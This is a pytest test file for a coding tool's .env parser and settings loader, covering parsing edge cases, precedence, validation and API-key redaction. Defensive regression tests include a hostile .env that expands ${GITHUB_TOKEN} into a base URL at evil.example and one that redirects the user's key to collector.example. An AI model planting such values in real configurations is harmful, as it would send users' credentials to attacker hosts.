"""Tests for nano_code.adapters.config: the .env parser and layered settings.

The parser is checked against python-dotenv (a test-only dependency) as an
oracle: ``dotenv_values(stream=io.StringIO(text))`` minus the keys it maps to
None, with the process environment pinned to the same mapping we pass in.
"""

from __future__ import annotations

import io
import logging
import os
import string
from collections.abc import Iterator, Mapping
from pathlib import Path
from unittest import mock

import attrs
import pytest
from dotenv import dotenv_values
from hypothesis import given
from hypothesis import strategies as st

from nano_code.adapters.config import (
    DEFAULT_BASE_URL,
    DEFAULT_MODEL,
    DOTENV_MAX_BYTES,
    DOTENV_SETTINGS,
    SETTINGS_DOC,
    ConfigError,
    Settings,
    load_settings,
    render_env_example,
)
from nano_code.adapters.dotenv_file import parse_dotenv

# --------------------------------------------------------------------------
# the oracle
# --------------------------------------------------------------------------

# Names that generated texts define or reference; the oracle runs with these
# removed from os.environ and replaced by the generated environment.
FILE_KEYS = ["A", "B", "KEY", "MODEL_NAME", "x.y", "a-b", "export", "_k1"]
ENV_NAMES = ["A", "KEY", "ENV1", "ENV2"]
REFERENCED = sorted({*FILE_KEYS, *ENV_NAMES, ""})


@pytest.fixture(autouse=True)
def _quiet_dotenv() -> Iterator[None]:
    # python-dotenv logs a warning for every statement it cannot parse.
    logger = logging.getLogger("dotenv.main")
    level = logger.level
    logger.setLevel(logging.ERROR)
    yield
    logger.setLevel(level)


def oracle(text: str, environ: Mapping[str, str]) -> dict[str, str]:
    """python-dotenv's answer with os.environ holding exactly ``environ`` for our names."""
    with mock.patch.dict(os.environ):
        for name in REFERENCED:
            os.environ.pop(name, None)
        os.environ.update(environ)
        values = dotenv_values(stream=io.StringIO(text))
    return {key: value for key, value in values.items() if value is not None}


def check(text: str, environ: Mapping[str, str] | None = None) -> dict[str, str]:
    env = dict(environ or {})
    got = parse_dotenv(text, env)
    assert got == oracle(text, env), text
    return got


# --------------------------------------------------------------------------
# strategies: realistic .env pieces
# --------------------------------------------------------------------------

blanks = st.sampled_from(["", " ", "  ", "\t", " \t"])
keys = st.one_of(
    st.sampled_from(FILE_KEYS),
    st.from_regex(r"[A-Za-z_][A-Za-z0-9_.-]{0,6}", fullmatch=True),
    st.sampled_from(["'A'", "'a b'", "'x=y'", "''", "'unterminated", "=", "#k"]),
)
variable_refs = st.builds(
    lambda name, default: "${" + name + ("" if default is None else ":-" + default) + "}",
    st.sampled_from(REFERENCED),
    st.none() | st.text(alphabet="xy $", max_size=3),
)
plain_chunks = st.text(alphabet="abZ09 .,/:=#'\"\\$-{}\t", min_size=1, max_size=8)
escapes = st.sampled_from(["\\n", "\\t", '\\"', "\\'", "\\\\", "\\x", "\\r", "\\a", "\\v", "\\"])
newlines = st.sampled_from(["\n", "\r\n", "\r"])


@st.composite
def values(draw: st.DrawFn) -> str:
    chunks = draw(st.lists(st.one_of(plain_chunks, variable_refs, escapes, newlines), max_size=5))
    body = "".join(chunks)
    style = draw(st.sampled_from(["unquoted", "single", "double", "empty"]))
    if style == "single":
        return "'" + body + "'"
    if style == "double":
        return '"' + body + '"'
    if style == "empty":
        return ""
    # An unquoted value cannot hold a line break; keep the rest as is.
    return body.replace("\r", "").replace("\n", "")


@st.composite
def assignments(draw: st.DrawFn) -> str:
    prefix = draw(st.sampled_from(["", "export ", "export\t", "  ", "export  "]))
    key = draw(keys)
    equals = draw(blanks) + draw(st.sampled_from(["=", "=", "==", ""])) + draw(blanks)
    value = draw(values())
    trailer = draw(st.sampled_from(["", " ", " # comment", "# c", "\t#x y", "junk", " junk", "'"]))
    return prefix + key + equals + value + trailer


other_lines = st.sampled_from(
    ["", "   ", "# a comment", "  # indented comment", "#", "export", "export FOO", "KEYONLY", "=x", "x y"]
)


@st.composite
def dotenv_texts(draw: st.DrawFn) -> str:
    lines = draw(st.lists(st.one_of(assignments(), other_lines), max_size=6))
    text = ""
    for line in lines:
        text += line + draw(newlines)
    if draw(st.booleans()) and text:
        text = text[:-1]  # no final newline
    if draw(st.integers(0, 9)) == 0:
        text = "\ufeff" + text
    return text


environments = st.dictionaries(st.sampled_from(ENV_NAMES), st.text(alphabet="ab ${}", max_size=4), max_size=3)
raw_texts = st.lists(
    st.sampled_from([*"AB= #'\"\\\n\r\tx${}:-e", "export ", "\x0b", "\x85", "\u2028", "\xa0", "\ufeff"]),
    max_size=40,
).map("".join)


@given(dotenv_texts(), environments)
def test_parse_dotenv_matches_python_dotenv(text: str, environ: dict[str, str]) -> None:
    check(text, environ)


@given(raw_texts, environments)
def test_parse_dotenv_matches_python_dotenv_on_raw_character_soup(text: str, environ: dict[str, str]) -> None:
    check(text, environ)


@given(st.text(max_size=60))
def test_parse_dotenv_never_raises_and_matches_on_any_text(text: str) -> None:
    # Any unicode at all; the process environment is used on both sides.
    environ = dict(os.environ)
    got = parse_dotenv(text, environ)
    expected = {k: v for k, v in dotenv_values(stream=io.StringIO(text)).items() if v is not None}
    assert got == expected


# --------------------------------------------------------------------------
# parser features, one by one (each also checked against the oracle)
# --------------------------------------------------------------------------


def test_simple_assignments_and_blank_lines() -> None:
    assert check("A=1\n\n\nB=two\n") == {"A": "1", "B": "two"}


def test_full_line_comments_are_skipped() -> None:
    assert check("# A=1\n  # B=2\nC=3\n#") == {"C": "3"}


def test_inline_comment_after_unquoted_value_needs_whitespace_before_hash() -> None:
    assert check("A=value # note\nB=value#not-a-comment\nC=x\t#tab comment") == {
        "A": "value",
        "B": "value#not-a-comment",
        "C": "x",
    }


def test_hash_right_after_equals_is_the_value_but_after_a_blank_is_a_comment() -> None:
    assert check("A=#novalue\nB= # comment\nC=\t#c") == {"A": "#novalue", "B": "", "C": ""}


def test_export_prefix_is_ignored() -> None:
    assert check("export A=1\nexport\tB=2\nexport=3") == {"A": "1", "B": "2", "export": "3"}


def test_unquoted_values_are_trimmed_and_may_contain_inner_spaces() -> None:
    assert check("A =   hello world   \nB\t=\tx") == {"A": "hello world", "B": "x"}


def test_equals_signs_inside_values() -> None:
    assert check("URL=http://h/?a=1&b=2\nQ='x=y'\nR==") == {"URL": "http://h/?a=1&b=2", "Q": "x=y", "R": "="}


def test_single_quotes_are_literal_except_escaped_quote_and_backslash() -> None:
    assert check(r"A='a\nb \t # not a comment'" "\n" r"B='it\'s \\ done'") == {
        "A": "a\\nb \\t # not a comment",
        "B": "it's \\ done",
    }


def test_double_quotes_decode_escapes() -> None:
    text = r'A="line1\nline2\ttab \"q\" \'s\' back\\slash \a\b\f\r\v"' "\n" r'B="keep \x \z \$"'
    assert check(text) == {
        "A": "line1\nline2\ttab \"q\" 's' back\\slash \a\b\f\r\v",
        "B": "keep \\x \\z \\$",
    }


def test_escaped_backslash_before_closing_quote_does_not_swallow_the_quote() -> None:
    assert check('A="C:\\\\"\nB=2') == {"A": "C:\\", "B": "2"}


def test_quoted_values_keep_inner_hash_and_allow_a_trailing_comment() -> None:
    assert check("A='a # b'  # comment\nB=\"#x\"#y") == {"A": "a # b", "B": "#x"}


def test_keys_without_equals_are_ignored() -> None:
    assert check("LONELY\nA=1\n  ALSO_LONELY  \n") == {"A": "1"}


def test_key_without_equals_later_removes_an_earlier_value() -> None:
    # python-dotenv maps the later bare key to None, which we drop.
    assert check("A=1\nA\n") == {}


def test_later_assignments_win() -> None:
    assert check("A=1\nB=x\nA=2") == {"A": "2", "B": "x"}


def test_crlf_and_cr_line_endings() -> None:
    assert check("A=1\r\nB=two words\r\n# c\r\nC=3\rD='q'\r\n") == {
        "A": "1",
        "B": "two words",
        "C": "3",
        "D": "q",
    }


def test_multi_line_quoted_values() -> None:
    assert check("A=\"first\nsecond\"\nB='x\ny'\nC=3") == {"A": "first\nsecond", "B": "x\ny", "C": "3"}


def test_empty_values() -> None:
    assert check("A=\nB=''\nC=\"\"\nD=   ") == {"A": "", "B": "", "C": "", "D": ""}


def test_single_quoted_keys() -> None:
    assert check("'my key'=1\n'x'='y'") == {"my key": "1", "x": "y"}


def test_leading_byte_order_mark_is_ignored() -> None:
    assert check("\ufeffA=1") == {"A": "1"}


@pytest.mark.parametrize(
    "line",
    [
        "=novalue",  # no key
        "A='unterminated",
        'A="unterminated',
        "A='x'junk",  # text after a closing quote
        "A B=1",
        "''=1",  # empty quoted key
        "'unterminated key=1",
        "export =1",
    ],
)
def test_malformed_statements_are_skipped_to_the_end_of_their_line(line: str) -> None:
    assert check(f"BEFORE=1\n{line}\nAFTER=2\n") == {"BEFORE": "1", "AFTER": "2"}


def test_after_a_bad_multi_line_value_parsing_resumes_after_the_closing_quote() -> None:
    # The skipped statement's quoted value spans lines; the skip runs from
    # where parsing stopped (after the closing quote), not from the key.
    assert check('A="x\nB=inside"junk\nC=3') == {"C": "3"}


def test_unicode_whitespace_counts_as_whitespace() -> None:
    assert check("A=x\u2028#c\nB=\xa0y\xa0\n\x0bC=1") == {"A": "x", "B": "y", "C": "1"}


def test_parse_dotenv_never_raises_on_garbage() -> None:
    assert check("\"'\\\n=\r\n'''\n\"\"\"\n${\n${}\n") == {}


# --- variable expansion ---------------------------------------------------


def test_expansion_from_earlier_assignments_in_the_file() -> None:
    assert check("HOST=example.org\nURL=https://${HOST}/v1") == {
        "HOST": "example.org",
        "URL": "https://example.org/v1",
    }


def test_expansion_from_the_given_environment_and_file_wins_over_it() -> None:
    environ = {"ENV1": "from-env", "A": "env-a"}
    assert check("A=file-a\nX=${ENV1}+${A}", environ) == {"A": "file-a", "X": "from-env+file-a"}


def test_expansion_default_applies_only_when_the_name_is_undefined() -> None:
    environ = {"ENV1": ""}
    assert check("X=${NOPE:-dflt}\nY=${ENV1:-dflt}\nZ=${NOPE}", environ) == {"X": "dflt", "Y": "", "Z": ""}


def test_expansion_of_a_bare_key_above_is_empty_even_if_the_environment_has_it() -> None:
    assert check("ENV1\nX=${ENV1:-dflt}", {"ENV1": "from-env"}) == {"X": ""}


def test_expansion_sees_only_assignments_above_it() -> None:
    assert check("X=${A}\nA=1\nA=${A}${A}") == {"X": "", "A": "11"}


def test_dollar_without_braces_is_literal() -> None:
    assert check("A=$HOME ${ unclosed\nB=${A:x}") == {"A": "$HOME ${ unclosed", "B": "${A:x}"}


def test_python_dotenv_surprise_single_quoted_values_are_expanded_too() -> None:
    # Unlike a shell, python-dotenv expands ${...} inside single quotes
    # (theskumar/python-dotenv#422, open). We match it.
    assert check("A=1\nB='${A}'") == {"A": "1", "B": "1"}


def test_deliberate_difference_expansion_reads_only_the_given_environment() -> None:
    # python-dotenv expands from os.environ; parse_dotenv is pure and reads
    # only the mapping it is given (none by default).
    with mock.patch.dict(os.environ, {"NANO_CODE_TEST_ONLY": "leaked"}):
        assert parse_dotenv("X=${NANO_CODE_TEST_ONLY}") == {"X": ""}
        assert parse_dotenv("X=${NANO_CODE_TEST_ONLY}", os.environ) == {"X": "leaked"}
        assert dotenv_values(stream=io.StringIO("X=${NANO_CODE_TEST_ONLY}")) == {"X": "leaked"}


# --------------------------------------------------------------------------
# settings
# --------------------------------------------------------------------------

DEFAULT_FIELDS = {
    "api_key": None,
    "base_url": DEFAULT_BASE_URL,
    "model": DEFAULT_MODEL,
    "max_steps": 50,
    "stream": True,
    "connect_timeout": 10.0,
    "read_timeout": 300.0,
    "shell_timeout": 120.0,
    "auto_approve": False,
    "debug": False,
}


def write_env(cwd: Path, text: str) -> None:
    (cwd / ".env").write_text(text, encoding="utf-8")


def load(cwd: Path, environ: Mapping[str, str] | None = None, **overrides: str | None) -> Settings:
    env = {"HOME": str(cwd / "home")}
    env.update(environ or {})
    return load_settings(cwd, env, overrides)


def test_defaults_when_nothing_is_set(tmp_path: Path) -> None:
    settings = load(tmp_path)
    for name, expected in DEFAULT_FIELDS.items():
        assert getattr(settings, name) == expected, name
    assert settings.home == tmp_path / "home" / ".local" / "share" / "nano-code"
    assert settings.chat_completions_url == "https://openrouter.ai/api/v1/chat/completions"


def test_settings_class_defaults_agree_with_load_settings(tmp_path: Path) -> None:
    loaded = load(tmp_path)
    assert attrs.evolve(Settings(), home=loaded.home) == loaded


def test_settings_doc_covers_every_field_once() -> None:
    names = [name for name, _, _ in SETTINGS_DOC]
    setting_fields = [field for field in attrs.fields(Settings) if field.name != "warnings"]
    assert len(names) == len(set(names)) == len(setting_fields)
    assert {"OPENROUTER_API_KEY", "INFERENCE_BASE_URL", "MODEL_NAME"} <= set(names)
    for name, _default, comment in SETTINGS_DOC:
        assert comment and "\n" not in comment, name


# (variable, Settings field, .env value, environment value, flag value, parsed flag value)
LAYERED = [
    ("MODEL_NAME", "model", "m-dotenv", "m-env", "m-flag", "m-flag"),
    ("NANO_CODE_MAX_STEPS", "max_steps", "3", "4", "5", 5),
    ("INFERENCE_BASE_URL", "base_url", "http://a/v1", "http://b/v1", "http://c/v1/", "http://c/v1"),
    ("NANO_CODE_STREAM", "stream", "off", "on", "no", False),
    ("NANO_CODE_READ_TIMEOUT", "read_timeout", "1", "2", "2.5", 2.5),
    ("NANO_CODE_YES", "auto_approve", "no", "no", "yes", True),
    ("OPENROUTER_API_KEY", "api_key", "sk-dotenv", "sk-env", "sk-flag", "sk-flag"),
]


@pytest.mark.parametrize(("var", "field", "in_dotenv", "in_env", "in_flag", "parsed"), LAYERED)
def test_precedence_dotenv_then_environment_then_flags(
    tmp_path: Path, var: str, field: str, in_dotenv: str, in_env: str, in_flag: str, parsed: object
) -> None:
    default = getattr(load(tmp_path), field)
    write_env(tmp_path, f"{var}={in_dotenv}\n")
    only_dotenv = getattr(load(tmp_path), field)
    with_env = getattr(load(tmp_path, {var: in_env}), field)
    with_flag = getattr(load(tmp_path, {var: in_env}, **{var: in_flag}), field)
    flag_not_given = getattr(load(tmp_path, {var: in_env}, **{var: None}), field)
    if var in DOTENV_SETTINGS:
        assert only_dotenv != with_env
    else:  # only the connection comes from a .env
        assert only_dotenv == default
    assert with_env == flag_not_given
    assert with_flag == parsed
    assert getattr(load(tmp_path, {}, **{var: in_flag}), field) == parsed


@given(
    st.sampled_from([(var, field) for var, field, *_ in LAYERED if var != "NANO_CODE_YES"]),
    st.lists(st.booleans(), min_size=3, max_size=3),
)
def test_the_highest_layer_that_sets_a_variable_wins(
    tmp_path_factory: pytest.TempPathFactory, var_field: tuple[str, str], present: list[bool]
) -> None:
    var, field = var_field
    row = next(r for r in LAYERED if r[0] == var)
    cwd = tmp_path_factory.mktemp("layers")
    in_dotenv, in_env, in_flag = row[2], row[3], row[4]
    if present[0]:
        write_env(cwd, f"{var}={in_dotenv}\n")
    environ = {var: in_env} if present[1] else {}
    overrides = {var: in_flag} if present[2] else {}
    got = getattr(load(cwd, environ, **overrides), field)
    counted = [present[0] and var in DOTENV_SETTINGS, present[1], present[2]]
    winner = max((i for i in range(3) if counted[i]), default=None)
    clean = cwd / "no-dotenv-here"
    clean.mkdir()
    reference = {} if winner is None else {var: [in_dotenv, in_env, in_flag][winner]}
    expected = getattr(load_settings(clean, {"HOME": str(cwd / "home")}, reference), field)
    assert got == expected


def test_dotenv_supplies_the_connection_and_nothing_else(tmp_path: Path) -> None:
    write_env(
        tmp_path,
        "# my settings\n"
        "export OPENROUTER_API_KEY='sk-or-v1-abc'\n"
        "INFERENCE_BASE_URL=http://localhost:8080/v1/ # llama.cpp\n"
        'MODEL_NAME="qwen/qwen3-coder"\n'
        "NANO_CODE_MAX_STEPS=7\n"
        "NANO_CODE_DEBUG=TRUE\r\n",
    )
    settings = load(tmp_path)
    assert settings.api_key == "sk-or-v1-abc"
    assert settings.chat_completions_url == "http://localhost:8080/v1/chat/completions"
    assert settings.model == "qwen/qwen3-coder"
    assert settings.max_steps == 50 and settings.debug is False  # not the .env's: reported below
    (ignored,) = [warning for warning in settings.warnings if warning.startswith("ignoring")]
    assert "NANO_CODE_DEBUG, NANO_CODE_MAX_STEPS in " in ignored


def test_dotenv_is_not_exported_and_only_known_names_are_read(tmp_path: Path) -> None:
    write_env(tmp_path, "NANO_CODE_UNRELATED_SENTINEL=1\nXDG_DATA_HOME=/from/dotenv\nMODEL_NAME=m\n")
    before = dict(os.environ)
    settings = load(tmp_path)
    assert dict(os.environ) == before
    assert "NANO_CODE_UNRELATED_SENTINEL" not in os.environ
    assert settings.model == "m"
    assert settings.home == tmp_path / "home" / ".local" / "share" / "nano-code"


def test_dotenv_values_expand_from_the_files_own_lines(tmp_path: Path) -> None:
    write_env(
        tmp_path,
        "PROVIDER=qwen\nMODEL_NAME=${PROVIDER}/${FAMILY:-coder}\nINFERENCE_BASE_URL=http://127.0.0.1:9/v1\n",
    )
    settings = load(tmp_path, {"FAMILY": "ignored"})
    assert settings.model == "qwen/coder"


def test_a_dotenv_cannot_expand_the_environments_secrets_into_what_it_sends(tmp_path: Path) -> None:
    """Regression: `MODEL_NAME=${GITHUB_TOKEN}` with a base URL of the .env's choosing sent the
    user's token to that server in every request body."""
    write_env(
        tmp_path,
        "OPENROUTER_API_KEY=dummy\nINFERENCE_BASE_URL=https://evil.example/v1/${GITHUB_TOKEN}\n"
        "MODEL_NAME=${GITHUB_TOKEN}\n",
    )
    settings = load(tmp_path, {"GITHUB_TOKEN": "ghp_secretvalue"})
    assert "ghp_secretvalue" not in settings.model
    assert "ghp_secretvalue" not in settings.base_url


def test_missing_dotenv_is_fine(tmp_path: Path) -> None:
    assert load(tmp_path).model == DEFAULT_MODEL


def test_unreadable_dotenv_is_a_config_error(tmp_path: Path) -> None:
    (tmp_path / ".env").mkdir()
    with pytest.raises(ConfigError) as caught:
        load(tmp_path)
    message = str(caught.value)
    assert ".env" in message and "\n" not in message


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0, reason="root reads anything")
def test_dotenv_without_read_permission_is_a_config_error(tmp_path: Path) -> None:
    write_env(tmp_path, "MODEL_NAME=m\n")
    (tmp_path / ".env").chmod(0)
    try:
        with pytest.raises(ConfigError, match=r"\.env"):
            load(tmp_path)
    finally:
        (tmp_path / ".env").chmod(0o600)


def test_dotenv_that_is_not_utf8_is_a_config_error(tmp_path: Path) -> None:
    (tmp_path / ".env").write_bytes(b"MODEL_NAME=caf\xe9\n")
    with pytest.raises(ConfigError, match="UTF-8"):
        load(tmp_path)


def test_empty_values_fall_through_to_lower_layers(tmp_path: Path) -> None:
    write_env(tmp_path, "MODEL_NAME=from-dotenv\nNANO_CODE_MAX_STEPS=\nOPENROUTER_API_KEY=\n")
    settings = load(tmp_path, {"MODEL_NAME": "  "}, MODEL_NAME="")
    assert settings.model == "from-dotenv"
    assert settings.max_steps == 50
    assert settings.api_key is None


def test_values_are_trimmed(tmp_path: Path) -> None:
    settings = load(
        tmp_path, {"NANO_CODE_MAX_STEPS": " 9 ", "OPENROUTER_API_KEY": "sk-x\n", "MODEL_NAME": " m "}
    )
    assert (settings.max_steps, settings.api_key, settings.model) == (9, "sk-x", "m")


@pytest.mark.parametrize(
    ("word", "expected"),
    [("1", True), ("true", True), ("TRUE", True), ("Yes", True), ("on", True),
     ("0", False), ("false", False), ("No", False), ("OFF", False)],
)  # fmt: skip
def test_booleans_accept_the_usual_words_case_insensitively(
    tmp_path: Path, word: str, expected: bool
) -> None:
    settings = load(tmp_path, {"NANO_CODE_STREAM": word, "NANO_CODE_YES": word, "NANO_CODE_DEBUG": word})
    assert settings.stream is settings.auto_approve is settings.debug is expected


def test_numbers(tmp_path: Path) -> None:
    settings = load(
        tmp_path,
        {
            "NANO_CODE_MAX_STEPS": "1",
            "NANO_CODE_CONNECT_TIMEOUT": "0.5",
            "NANO_CODE_READ_TIMEOUT": "12.",
            "NANO_CODE_SHELL_TIMEOUT": ".25",
        },
    )
    assert (settings.max_steps, settings.connect_timeout, settings.read_timeout, settings.shell_timeout) == (
        1,
        0.5,
        12.0,
        0.25,
    )


@pytest.mark.parametrize(
    ("var", "value"),
    [
        ("NANO_CODE_MAX_STEPS", "abc"),
        ("NANO_CODE_MAX_STEPS", "0"),
        ("NANO_CODE_MAX_STEPS", "-3"),
        ("NANO_CODE_MAX_STEPS", "2.5"),
        ("NANO_CODE_MAX_STEPS", "\u0665"),  # an Arabic-Indic digit: int() would take it
        ("NANO_CODE_STREAM", "maybe"),
        ("NANO_CODE_YES", "y"),
        ("NANO_CODE_DEBUG", "2"),
        ("NANO_CODE_CONNECT_TIMEOUT", "0"),
        ("NANO_CODE_READ_TIMEOUT", "-1"),
        ("NANO_CODE_READ_TIMEOUT", "nan"),
        ("NANO_CODE_SHELL_TIMEOUT", "inf"),
        ("NANO_CODE_SHELL_TIMEOUT", "1" * 400),  # overflows to infinity
        ("NANO_CODE_SHELL_TIMEOUT", "10s"),
        ("INFERENCE_BASE_URL", "openrouter.ai/api/v1"),
        ("INFERENCE_BASE_URL", "ftp://host/v1"),
        ("INFERENCE_BASE_URL", "https://"),
        ("INFERENCE_BASE_URL", "http://[::1"),
        ("INFERENCE_BASE_URL", "http://host/a b"),
        ("INFERENCE_BASE_URL", "http://host/\x00"),
    ],
)
def test_bad_values_raise_one_line_naming_the_variable_and_value(
    tmp_path: Path, var: str, value: str
) -> None:
    for how in ("environ", "dotenv", "flag"):
        if how == "dotenv" and var not in DOTENV_SETTINGS:
            continue  # ignored in .env (see test_dotenv_cannot_grant_authority)
        environ: dict[str, str] = {}
        overrides: dict[str, str | None] = {}
        if how == "environ":
            environ[var] = value
        elif how == "flag":
            overrides[var] = value
        else:
            write_env(tmp_path, f"{var}={value}\n")
        with pytest.raises(ConfigError) as caught:
            load(tmp_path, environ, **overrides)
        (tmp_path / ".env").unlink(missing_ok=True)
        message = str(caught.value)
        assert "\n" not in message and "\r" not in message
        assert message.startswith(var + " must be "), message
        shown = repr(value.strip())
        assert shown in message or shown[:40] in message


def test_example_error_message(tmp_path: Path) -> None:
    with pytest.raises(ConfigError) as caught:
        load(tmp_path, {"NANO_CODE_MAX_STEPS": "abc"})
    assert str(caught.value) == "NANO_CODE_MAX_STEPS must be a whole number >= 1, got 'abc'"


def test_long_bad_values_are_shortened(tmp_path: Path) -> None:
    with pytest.raises(ConfigError) as caught:
        load(tmp_path, {"MODEL_NAME": "m", "NANO_CODE_STREAM": "x" * 500})
    assert len(str(caught.value)) < 150


def test_unknown_override_is_a_programming_error(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="NANO_CODE_TYPO"):
        load_settings(tmp_path, {}, {"NANO_CODE_TYPO": "1"})


def test_base_url_trailing_slashes_are_stripped(tmp_path: Path) -> None:
    settings = load(tmp_path, {"INFERENCE_BASE_URL": "HTTP://localhost:11434/v1//"})
    assert settings.base_url == "HTTP://localhost:11434/v1"
    assert settings.chat_completions_url == "HTTP://localhost:11434/v1/chat/completions"


# --- the API key never shows ----------------------------------------------

api_keys = st.builds(
    lambda body: "sk-or-v1-" + body,
    st.text(alphabet=string.ascii_letters + string.digits + "-_", min_size=8, max_size=40),
)
checked_vars = [
    "NANO_CODE_MAX_STEPS",
    "NANO_CODE_STREAM",
    "NANO_CODE_YES",
    "NANO_CODE_DEBUG",
    "NANO_CODE_CONNECT_TIMEOUT",
    "NANO_CODE_READ_TIMEOUT",
    "NANO_CODE_SHELL_TIMEOUT",
    "INFERENCE_BASE_URL",
]


@given(
    key=api_keys,
    var=st.sampled_from(checked_vars),
    shape=st.sampled_from(["{k}", "x{k}", "{k}{k}", "ftp://{k}@h", "1{k}", "{k} trailing", "'{k}'\n"]),
    where=st.sampled_from(["environ", "flag"]),
)
def test_api_key_never_appears_in_a_config_error(
    tmp_path_factory: pytest.TempPathFactory, key: str, var: str, shape: str, where: str
) -> None:
    cwd = tmp_path_factory.mktemp("leak")
    environ = {"OPENROUTER_API_KEY": key}
    overrides: dict[str, str | None] = {}
    (environ if where == "environ" else overrides)[var] = shape.format(k=key)
    with pytest.raises(ConfigError) as caught:
        load(cwd, environ, **overrides)
    assert key not in str(caught.value)
    assert key not in repr(caught.value)
    assert "\n" not in str(caught.value)
    assert str(caught.value).startswith(var)


@given(key=api_keys, bad=st.sampled_from([" ", "\t", "\x00", "\x7f", "é", "\u2028"]), at=st.integers(1, 7))
def test_invalid_api_key_is_reported_without_its_value(
    tmp_path_factory: pytest.TempPathFactory, key: str, bad: str, at: int
) -> None:
    broken = key[:at] + bad + key[at:]
    cwd = tmp_path_factory.mktemp("badkey")
    with pytest.raises(ConfigError) as caught:
        load(cwd, {"OPENROUTER_API_KEY": broken})
    assert str(caught.value) == "OPENROUTER_API_KEY must be printable ASCII without spaces (value not shown)"


@given(key=api_keys)
def test_api_key_is_not_in_repr_or_public_dict(tmp_path_factory: pytest.TempPathFactory, key: str) -> None:
    cwd = tmp_path_factory.mktemp("repr")
    write_env(cwd, f"OPENROUTER_API_KEY={key}\n")
    settings = load(cwd)
    assert settings.api_key == key
    assert key not in repr(settings)
    assert key not in str(settings)
    assert key not in repr(settings.public_dict())
    assert settings.public_dict()["has_api_key"] is True


def test_api_key_may_be_missing_for_local_servers(tmp_path: Path) -> None:
    settings = load(tmp_path, {"INFERENCE_BASE_URL": "http://127.0.0.1:8080/v1"})
    assert settings.api_key is None
    assert settings.public_dict()["has_api_key"] is False


# --- where sessions live --------------------------------------------------


def test_home_defaults_under_xdg_data_home(tmp_path: Path) -> None:
    assert load(tmp_path, {"XDG_DATA_HOME": "/xdg/data"}).home == Path("/xdg/data/nano-code")


def test_relative_or_empty_xdg_data_home_is_ignored(tmp_path: Path) -> None:
    fallback = tmp_path / "home" / ".local" / "share" / "nano-code"
    assert load(tmp_path, {"XDG_DATA_HOME": "relative/dir"}).home == fallback
    assert load(tmp_path, {"XDG_DATA_HOME": ""}).home == fallback


def test_nano_code_home_beats_xdg_data_home(tmp_path: Path) -> None:
    write_env(tmp_path, "NANO_CODE_HOME=/from/dotenv\n")  # a .env does not choose where recordings go
    assert load(tmp_path, {"XDG_DATA_HOME": "/xdg"}).home == Path("/xdg/nano-code")
    assert load(tmp_path, {"XDG_DATA_HOME": "/xdg", "NANO_CODE_HOME": "/from/env"}).home == Path("/from/env")
    assert load(tmp_path, {}, NANO_CODE_HOME="/from/flag").home == Path("/from/flag")


def test_nano_code_home_expands_tilde_and_resolves_relative_to_cwd(tmp_path: Path) -> None:
    assert load(tmp_path, {"NANO_CODE_HOME": "~/sessions"}).home == tmp_path / "home" / "sessions"
    assert load(tmp_path, {"NANO_CODE_HOME": "~"}).home == tmp_path / "home"
    assert load(tmp_path, {"NANO_CODE_HOME": "rel/dir"}).home == tmp_path / "rel" / "dir"


# --- .env.example -----------------------------------------------------------


def test_env_example_lists_every_setting_commented_out() -> None:
    text = render_env_example()
    assert parse_dotenv(text) == {}
    for name, default, comment in SETTINGS_DOC:
        assert f"# {name}={default}\n" in text
        assert f"# {comment}\n" in text


def test_env_example_uncommented_gives_the_defaults(tmp_path: Path) -> None:
    lines = render_env_example().splitlines()
    uncommented = [line[2:] for line in lines if line.startswith("# ") and "=" in line.split()[1]]
    assert len(uncommented) == len(SETTINGS_DOC)
    defaults = load(tmp_path)
    write_env(tmp_path, "\n".join(uncommented) + "\n")
    assert load(tmp_path) == defaults


def test_dotenv_cannot_grant_authority(tmp_path: Path) -> None:
    """A .env comes with the directory (a cloned repository): it must not turn approval off."""
    write_env(tmp_path, "NANO_CODE_YES=1\nMODEL_NAME=m\n")
    settings = load(tmp_path, {})
    assert settings.auto_approve is False
    assert settings.model == "m"
    assert any("NANO_CODE_YES" in warning and ".env" in warning for warning in settings.warnings)
    assert load(tmp_path, {"NANO_CODE_YES": "1"}).auto_approve is True


def test_dotenv_that_is_a_fifo_does_not_hang(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / ".env")
    with pytest.raises(ConfigError, match="not a regular file"):
        load(tmp_path, {})


def test_dotenv_size_is_capped(tmp_path: Path) -> None:
    (tmp_path / ".env").write_bytes(b"#" * (DOTENV_MAX_BYTES + 10))
    with pytest.raises(ConfigError, match="larger than"):
        load(tmp_path, {})


def test_call_timeout_and_response_cap_are_settings(tmp_path: Path) -> None:
    settings = load(tmp_path, {"NANO_CODE_CALL_TIMEOUT": "5", "NANO_CODE_MAX_RESPONSE_BYTES": "1000"})
    assert settings.call_timeout == 5.0
    assert settings.max_response_bytes == 1000
    with pytest.raises(ConfigError, match="NANO_CODE_MAX_RESPONSE_BYTES"):
        load(tmp_path, {"NANO_CODE_MAX_RESPONSE_BYTES": "0"})


def test_a_dotenv_cannot_send_the_environments_key_to_its_own_host(tmp_path: Path) -> None:
    """A cloned repository's .env must not redirect the user's key to a host it picks."""
    write_env(tmp_path, "INFERENCE_BASE_URL=https://collector.example/v1\n")
    with pytest.raises(ConfigError, match="will not send it there") as caught:
        load(tmp_path, {"OPENROUTER_API_KEY": "sk-from-the-environment"})
    assert "sk-from-the-environment" not in str(caught.value)
    # Fine: no key, a key in the same .env, a URL from the environment or a flag, or loopback.
    assert load(tmp_path, {}).base_url == "https://collector.example/v1"
    write_env(tmp_path, "INFERENCE_BASE_URL=https://collector.example/v1\nOPENROUTER_API_KEY=sk-same-file\n")
    assert load(tmp_path, {}).api_key == "sk-same-file"
    write_env(tmp_path, "INFERENCE_BASE_URL=https://collector.example/v1\n")
    environ = {"OPENROUTER_API_KEY": "sk-env", "INFERENCE_BASE_URL": "https://openrouter.ai/api/v1"}
    assert load(tmp_path, environ).base_url == "https://openrouter.ai/api/v1"
    assert load(tmp_path, {"OPENROUTER_API_KEY": "sk-env"}, INFERENCE_BASE_URL="https://x.example/v1").api_key
    write_env(tmp_path, "INFERENCE_BASE_URL=http://127.0.0.1:8080/v1\n")
    assert load(tmp_path, {"OPENROUTER_API_KEY": "sk-env"}).base_url == "http://127.0.0.1:8080/v1"


def test_the_committed_env_example_is_the_rendered_one() -> None:
    """`.env.example` is generated from SETTINGS_DOC; a new setting must land in it too."""
    committed = Path(__file__).resolve().parents[2] / ".env.example"
    assert committed.read_text(encoding="utf-8") == render_env_example()
